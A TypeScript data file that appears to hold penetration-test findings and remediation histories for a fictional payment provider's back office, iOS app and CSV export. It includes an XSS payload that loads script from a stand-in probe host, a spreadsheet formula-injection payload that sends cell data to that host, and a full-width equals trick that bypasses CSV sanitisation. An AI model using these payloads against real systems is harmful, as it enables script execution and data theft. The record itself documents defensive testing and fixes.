import {
  fixed,
  holds,
  mobileTester,
  reported,
  said,
  webTester,
  type FindingHistory,
} from '#content/engagement-room/history.ts';

export const appHistories: readonly FindingHistory[] = [
  {
    id: 'MP-03',
    short: 'Script in the back office',
    asset: 'backoffice.meridianpay.example',
    tester: webTester,
    found: '2026-03-12',
    fixed: '2026-04-15',
    due: '2026-04-26',
    hostile: ['<svg/onload=\\"import(\'https://probe.example/p.js\')\\">'],
    proof: ['GET /internal/kyc/cases        200, 50 cases per page'],
    events: [
      reported(['2026-03-12', webTester, 'Our probe called back 14 minutes after the reply was saved.']),
      said([
        '2026-03-13',
        'Back-office team lead',
        'Two other views use the same filter. Are they affected?',
      ]),
      said(['2026-03-13', webTester, 'Checked: both show text only. Remove the filter anyway.']),
      fixed([
        '2026-04-15',
        'Back-office team lead',
        'Replies are sanitized on output, the content security policy uses nonces, and approvals need two people.',
      ]),
    ],
    answers: holds(
      'We sent the same 61 replies to the current build. All are shown as text, and nothing runs.',
    ),
  },
  {
    id: 'MP-07',
    short: 'Token in iOS backups',
    asset: 'Meridian Business for iOS 4.8.0',
    tester: mobileTester,
    found: '2026-03-18',
    fixed: '2026-04-16',
    due: '2026-04-26',
    hostile: ['refresh_token=mrt_4f0c9a...', '"session.refreshToken" => "mrt_4f0c9a..."'],
    proof: ['HTTP/1.1 200 OK', '"access_token":"eyJ..."'],
    events: [
      reported(['2026-03-18', mobileTester, 'The token from a backup worked on another machine.']),
      fixed([
        '2026-04-16',
        'Mobile team lead',
        'Version 4.8.2 stores the token in the keychain, on this device only, and deletes the old entry on first launch.',
      ]),
    ],
    answers: holds('A fresh backup of version 4.8.2 contains no token, and neither does the app container.'),
  },
  {
    id: 'MP-08',
    short: 'CSV cells run as formulas',
    asset: 'GET /v2/payments.csv',
    tester: webTester,
    found: '2026-03-11',
    fixed: null,
    due: '2026-06-25',
    hostile: ['=HYPERLINK(""https://probe.example/?v=""&B2,""Invoice 4711"")'],
    proof: [],
    events: [
      reported([
        '2026-03-11',
        webTester,
        'A payment reference entered by the payer became a link in the spreadsheet.',
      ]),
      said([
        '2026-03-30',
        'Back-office team lead',
        'The export format changes in June. We’d like to fix it then.',
      ]),
    ],
    answers: [
      {
        status: 'Partially fixed',
        note: 'A variation still works. Cells that begin with `=`, `+`, `-` or `@` now stay text. Cells that begin with a full-width equals sign, `＝`, don’t: one common spreadsheet app runs them.',
      },
      {
        status: 'Fixed',
        note: 'Cells that begin with a full-width sign, a tab or a carriage return stay text too. Thirty-two variations of a formula did nothing in three spreadsheet apps, and negative amounts are still numbers.',
      },
    ],
  },
];
